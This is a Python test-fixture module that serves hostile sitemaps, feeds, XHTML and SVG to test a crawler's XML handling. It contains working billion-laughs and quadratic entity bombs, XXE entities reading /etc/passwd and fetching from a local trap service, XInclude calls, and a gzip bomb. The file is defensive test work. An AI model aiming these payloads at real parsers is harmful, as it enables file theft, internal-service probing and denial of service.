"""Sitemaps, feeds and XHTML with bombs, spies and breaks. Each is linked from the index and named in robots.txt."""
# ruff: noqa: E501 (a table: one fault a line)

from __future__ import annotations

import gzip
from collections.abc import Callable

from tests.faults.answers import article, fixed, missing, whole
from tests.faults.codings import gzip_bomb
from tests.faults.model import Answer, Exchange, add, fault

XML = "application/xml"
NAMESPACE = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
LAUGHS = "<!DOCTYPE lolz [" + '<!ENTITY l0 "哈">' + "".join(
    f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10)) + "]>"
BEHIND = tuple(f"/behind/{number}.html" for number in range(1, 4))
"""Good pages that only the sitemap or feed names."""


def urlset(urls: list[str], before: str = "", head: str = '<?xml version="1.0" encoding="UTF-8"?>\n', inside: str = "") -> str:
    """A sitemap of these addresses."""
    rows = "".join(f"<url><loc>{url}</loc><lastmod>2026-03-02</lastmod></url>\n" for url in urls)
    return f"{head}{before}<urlset {NAMESPACE}>{inside}{rows}</urlset>\n"


def own(exchange: Exchange, paths: tuple[str, ...] = BEHIND) -> list[str]:
    """Absolute addresses on the site."""
    host = exchange.headers.get("host", f"127.0.0.1:{exchange.site.port}")
    return [f"http://{host}{exchange.base}{path}" for path in paths]


def serving(name: str, file: str, make: Callable[[Exchange], bytes], kind: str | None = XML, more: tuple[tuple[str, str], ...] = ()) -> Answer:
    """`make` at `/file`, good pages behind, robots.txt that names the file."""

    def answer(exchange: Exchange) -> None:
        host = exchange.headers.get("host", "")
        if exchange.path == "/robots.txt":
            exchange.send(whole(f"User-agent: *\nDisallow:\nSitemap: http://{host}{exchange.base}/{file}\n".encode(), kind="text/plain"))
        elif exchange.path == f"/{file}":
            exchange.send(whole(make(exchange), kind=kind, more=more))
        elif exchange.path.startswith("/behind/"):
            exchange.send(whole(article(f"{name} {exchange.path}")))
        else:
            missing(exchange)

    return answer


def _map(name: str, owed: str, does: str, make: Callable[[Exchange], bytes], *, file: str = "sitemap.xml", kind: str | None = XML, told: bool = True,
         **more: object) -> None:
    """`told`: the good pages behind must be asked for."""
    more.setdefault("reach", (f"/{file}", *(BEHIND if told else ())))
    add(name, "xml", owed, does, serving(name, file, make, kind), links=(file,), robots=True, **more)


def _rss(urls: list[str], before: str = "", inside: str = "") -> str:
    items = "".join(f"<item><title>条目</title><link>{url}</link><pubDate>Mon, 02 Mar 2026 01:30:00 GMT</pubDate></item>\n" for url in urls)
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{before}<rss version="2.0"><channel><title>要闻</title>{inside}{items}</channel></rss>'


def _atom(urls: list[str], before: str = "", inside: str = "") -> str:
    entries = "".join(f'<entry><title>条目</title><link href="{url}"/><updated>2026-03-02T01:30:00Z</updated></entry>\n' for url in urls)
    return f'<?xml version="1.0"?>\n{before}<feed xmlns="http://www.w3.org/2005/Atom"><title>要闻</title>{inside}{entries}</feed>'


def _spy(exchange: Exchange) -> str:
    trap = f"http://127.0.0.1:{exchange.site.trap}"
    return (f'<!DOCTYPE r SYSTEM "{trap}/dtd" [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "{trap}/ent">'
            f'<!ENTITY % p SYSTEM "{trap}/par">%p;]>')


_map("sitemap-good", "full", "a good sitemap", lambda x: urlset(own(x)).encode())
_map("sitemap-laughs", "full", "billion laughs in a sitemap", lambda x: urlset([*own(x), "&l9;"], LAUGHS).encode())
_map("sitemap-quadratic", "full", "one long entity used 50,000 times",
     lambda x: urlset([*own(x), "&a;" * 50_000], f'<!DOCTYPE x [<!ENTITY a "{"x" * 50_000}">]>').encode())
_map("sitemap-xxe", "full refuse", "external entities to file: and to an internal service",
     lambda x: urlset([*own(x), "http://x/&f;&h;"], _spy(x)).encode(), never=("root:x:0",))
_map("sitemap-xinclude", "full refuse", "XInclude and a style sheet of an internal service", lambda x: urlset(
    own(x), f'<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:{x.site.trap}/xsl"?>', inside=(
        f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="http://127.0.0.1:{x.site.trap}/inc"/>'
        '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')).encode(), never=("root:x:0",))
_map("sitemap-broken", "full", "cut in the middle, with & unescaped and a BOM",
     lambda x: b"\xef\xbb\xbf" + urlset([*own(x), "http://x.invalid/?a=1&b=2", *own(x)]).encode()[:-120])
_map("sitemap-gz", "full", "sitemap.xml.gz as a file", lambda x: gzip.compress(urlset(own(x)).encode(), mtime=0), file="sitemap.xml.gz", kind="application/gzip")
_map("sitemap-gz-bomb", "raw hits:20", "sitemap.xml.gz of 1 GiB", lambda x: gzip_bomb(), file="sitemap.xml.gz", kind="application/x-gzip", told=False,
     prepare=gzip_bomb)
_map("sitemap-html", "full", "an HTML page where the sitemap should be", lambda x: article("sitemap-html page"), told=False)
_map("sitemap-empty", "full", "an empty sitemap", lambda x: b"", told=False)
_map("sitemap-utf16", "full", "a sitemap in UTF-16", lambda x: urlset(own(x), head='<?xml version="1.0" encoding="UTF-16"?>\n').encode("utf-16"))
_map("sitemap-gbk", "full", "a sitemap in GBK", lambda x: urlset(own(x), head='<?xml version="1.0" encoding="GBK"?>\n', before="<!-- 栏目 -->").encode("gbk"))
_map("sitemap-lying-encoding", "full", "a sitemap that declares a charset nobody knows",
     lambda x: urlset(own(x), head='<?xml version="1.0" encoding="x-klingon"?>\n').encode())
_map("sitemap-text", "full", "a sitemap that is a list of lines", lambda x: "\r\n".join(own(x)).encode(), file="sitemap.txt", kind="text/plain", told=False)
_map("sitemap-no-namespace", "full", "a sitemap without its namespace, in odd prefixes",
     lambda x: urlset(own(x)).replace(f" {NAMESPACE}", ' xmlns:q="urn:x"').replace("<loc>", "<q:loc>").replace("</loc>", "</q:loc>").encode())
_map("sitemap-deep", "full", "a sitemap with elements nested 100,000 deep behind the good addresses",
     lambda x: (urlset(own(x))[:-11] + "<x>" * 100_000 + "</x>" * 100_000 + "</urlset>").encode())
_map("sitemap-attributes", "full", "an element of 100,000 attributes in a sitemap",
     lambda x: urlset(own(x), inside="<x " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>").encode())
_map("sitemap-wrong-host", "full refuse", "addresses of an internal service and of other hosts",
     lambda x: urlset([*own(x), f"http://127.0.0.1:{x.site.trap}/x", "http://elsewhere.invalid/", "file:///etc/passwd", "//", "http://]/"]).encode())
_map("sitemap-many", "full hits:60", "a sitemap of 50,000 spellings of three pages", lambda x: urlset(
    [f"{own(x)[n % 3]}?utm_source={n}" for n in range(50_000)]).encode())
_map("sitemap-text-in-loc", "full", "line ends, CDATA and comments in loc",
     lambda x: urlset([f"\n  {own(x)[0]}\n ", f"<![CDATA[{own(x)[1]}]]>", f"<!-- x -->{own(x)[2]}"]).encode())


@fault("sitemap-loop", "xml", "full hits:40", "an index that names itself and a new index at each level", links=("sitemap.xml",),
       reach=("/sitemap.xml",), robots=True)
def sitemap_loop(exchange: Exchange) -> None:
    if exchange.path == "/robots.txt":
        exchange.send(whole(f"User-agent: *\nSitemap: http://{exchange.headers.get('host', '')}{exchange.base}/sitemap.xml\n".encode(), kind="text/plain"))
        return
    exchange.site.memory["n"] = count = exchange.site.memory.get("n", 0) + 1
    rows = "".join(f"<sitemap><loc>{url}</loc></sitemap>" for url in own(exchange, ("/sitemap.xml", f"/sitemap-{count}.xml")))
    exchange.send(whole(f'<?xml version="1.0"?><sitemapindex {NAMESPACE}>{rows}</sitemapindex>'.encode(), kind=XML))


@fault("sitemap-index-1000", "xml", "full hits:1100", "an index of 1,000 sitemaps, most of them empty", links=("sitemap.xml",),
       reach=("/sitemap.xml", "/map/0.xml", "/behind/1.html"))
def sitemap_index_1000(exchange: Exchange) -> None:
    if exchange.path == "/sitemap.xml":
        rows = "".join(f"<sitemap><loc>{url}</loc></sitemap>" for url in own(exchange, tuple(f"/map/{n}.xml" for n in range(1000))))
        exchange.send(whole(f'<?xml version="1.0"?><sitemapindex {NAMESPACE}>{rows}</sitemapindex>'.encode(), kind=XML))
    elif exchange.path.startswith("/map/"):
        exchange.send(whole(urlset(own(exchange) if exchange.path == "/map/0.xml" else []).encode(), kind=XML))
    else:
        exchange.send(whole(article(f"sitemap-index-1000 {exchange.path}")))


RSS = "application/rss+xml"
_map("rss-good", "full", "a good RSS feed", lambda x: _rss(own(x)).encode(), file="rss.xml", kind=RSS)
_map("rss-broken", "full", "RSS with & unescaped, HTML entities and no end", lambda x: _rss(
    [*own(x), "http://x.invalid/?a&b&nbsp;"], inside="<description>A & B &ldquo;x&rdquo; &copy;</description>").encode()[:-40], file="rss.xml", kind=RSS)
_map("rss-laughs", "full", "billion laughs in a feed", lambda x: _rss(own(x), LAUGHS, "<description>&l9;</description>").encode(), file="rss.xml", kind=RSS)
_map("rss-as-html", "full", "a feed as text/html", lambda x: _rss(own(x)).encode(), file="rss.xml", kind="text/html")
_map("rss-gbk", "full", "a feed in GBK that says gb2312", lambda x: _rss(own(x)).replace("UTF-8", "gb2312").encode("gbk"), file="rss.xml", kind="text/xml")
_map("feed-10000", "full hits:60", "a feed of 10,000 items that are three pages", lambda x: _rss(
    [f"{own(x)[n % 3]}#{n}" for n in range(10_000)]).encode(), file="rss.xml", kind=RSS)
_map("rss-odd-items", "full", "items without links, with GUIDs, relative links and links in attributes", lambda x: _rss(own(x), inside=(
    "<item/><item><link/></item><item><guid isPermaLink='true'></guid></item><item><link>../up</link></item><item><link href='x'/></item>"
    "<item><pubDate>yesterday</pubDate><link>javascript:x</link></item>")).encode(), file="rss.xml", kind=RSS)
_map("atom-good", "full", "a good Atom feed", lambda x: _atom(own(x)).encode(), file="atom.xml", kind="application/atom+xml")
_map("atom-xxe", "full refuse", "external entities in an Atom feed", lambda x: _atom(own(x), _spy(x), "<subtitle>&f;&h;</subtitle>").encode(),
     file="atom.xml", kind="application/atom+xml", never=("root:x:0",))


def _xhtml(inner: str, before: str = "") -> bytes:
    text = article("xhtml page").decode().replace("<!DOCTYPE html>", "").replace('<meta charset="utf-8">', "").replace("<html", '<html xmlns="http://www.w3.org/1999/xhtml"')
    return f'<?xml version="1.0" encoding="UTF-8"?>{before}{text.replace("</body>", inner + "</body>")}'.encode()


add("xhtml-laughs", "xml", "full", "billion laughs in application/xhtml+xml", fixed(whole(_xhtml("<p>&l9;</p>", LAUGHS), kind="application/xhtml+xml")))
add("xhtml-xxe", "xml", "full refuse", "external entities in application/xhtml+xml",
    lambda x: x.send(whole(_xhtml("<p>&f;&h;</p>", _spy(x)), kind="application/xhtml+xml")), never=("root:x:0",))
add("xhtml-good", "xml", "full", "a good article as application/xhtml+xml", fixed(whole(_xhtml(""), kind="application/xhtml+xml")), articles=1)
add("svg-laughs", "xml", "full", "billion laughs in an SVG picture",
    lambda x: x.send(whole(article("svg-laughs page", inner='<img src="x.svg">')) if x.path == "/page" else
                     whole(f'{LAUGHS}<svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>'.encode(), kind="image/svg+xml")))
add("recordset-laughs", "xml", "full", "a listing's embedded XML record set with billion laughs and broken records",
    lambda x: x.send(whole(article("recordset-laughs page", inner=(
        f'<script type="text/xml">{LAUGHS}<datastore><totalrecord>99999999999999999999</totalrecord><nextgroup><![CDATA[<a href="page?n=1">]]></nextgroup>'
        "<recordset><record><![CDATA[<li><a href='good/2.html'>&l9;]]></record><record><![CDATA[</recordset></script>")))))
